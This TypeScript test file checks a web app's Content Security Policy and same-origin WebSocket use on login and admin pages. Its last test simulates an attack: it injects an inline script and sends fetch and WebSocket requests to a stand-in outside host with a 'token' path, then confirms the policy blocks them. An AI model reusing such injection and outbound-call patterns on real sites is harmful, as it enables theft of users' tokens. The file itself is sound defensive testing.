import type { Page } from "playwright-core"
import { expect, test } from "vitest"
import { chromiumWindows } from "../kit/windows.ts"

// A page that breaks the policy complains on the console, which fails its test.
const windows = chromiumWindows()

/** Sockets of a page that hear something. */
const socketsOf = (page: Page): readonly string[] => {
  const heard: string[] = []
  page.on("websocket", (socket) => socket.on("framereceived", () => void heard.push(socket.url())))
  return heard
}

test("signing in keeps the policy", async () => {
  const page = await windows.open({ path: "/login" })
  await page.getByLabel("Username").waitFor()
})

test.each([
  ["role-10", "/admin-dashboard"],
  ["role-10", "/live"],
  ["role-14", "/paper-editor-admin/question?level=2"]
])("as %s the page %s keeps the policy, and its WebSocket is open", async (as, path) => {
  const page = await windows.open({ as, path: "/login" })
  const heard = socketsOf(page)
  const answer = await page.goto(path)
  expect(answer?.headers()["content-security-policy"]).toContain("connect-src 'self'")
  await page.getByRole("main").getByRole("heading").first().waitFor()
  await expect.poll(() => heard.length).toBeGreaterThan(0)
  expect(heard[0]).toContain("/socket.io/")
})

test("an inline script that was injected does not run, and nothing is sent to another host", async () => {
  const page = await windows.open({
    as: "role-10",
    path: "/admin-dashboard",
    expected: /Content Security Policy|ERR_BLOCKED_BY_CSP/i
  })
  const broken = page.evaluate(
    () =>
      new Promise<readonly string[]>((done) => {
        const directives: string[] = []
        document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
          directives.push(effectiveDirective)
          if (directives.length >= 3) done(directives)
        })
        const script = document.createElement("script")
        script.textContent = "window.wasInjected = true"
        document.body.append(script)
        fetch("https://elsewhere.example.org/token").catch(() => undefined)
        try {
          new WebSocket("wss://elsewhere.example.org/token").close()
        } catch {
          // Some browsers throw, others report it later.
        }
      })
  )
  expect((await broken).toSorted()).toEqual(["connect-src", "connect-src", "script-src-elem"])
  expect(await page.evaluate(() => "wasInjected" in globalThis)).toBe(false)
})
